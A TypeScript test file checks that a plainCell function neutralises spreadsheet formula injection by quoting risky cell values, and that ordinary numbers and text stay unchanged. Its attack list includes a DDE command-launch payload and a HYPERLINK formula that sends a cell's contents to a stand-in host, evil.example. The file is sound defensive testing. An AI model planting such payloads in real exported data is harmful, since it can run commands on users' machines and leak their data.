import fc from 'fast-check'
import { expect, test } from 'vitest'
import { plainCell } from './spreadsheet.ts'

test('what a spreadsheet would compute is text', () => {
  for (const attack of [
    '=1+1',
    `=cmd|' /C calc'!A0`,
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    '+1+1',
    '-1+1',
    '-2+3+cmd|x',
    '@SUM(1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\0=1+1',
    '--1',
    '-',
    '+',
  ])
    expect(plainCell(attack)).toBe(`'${attack}`)
})

test('numbers, names and everything else stay as they are', () => {
  for (const plain of [
    '-1',
    '-0.5',
    '-12345678901234567890.000001',
    '1e-7',
    '',
    'Brand = search',
    '광고',
    "'quoted",
    '0',
  ])
    expect(plainCell(plain)).toBe(plain)
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), (text) => {
      const cell = plainCell(text)
      expect(cell === text || cell === `'${text}`).toBe(true)
      expect(/^[=+@\t\r\n\0]/.test(cell)).toBe(false)
    }),
    { seed: 9, numRuns: 50 },
  )
})
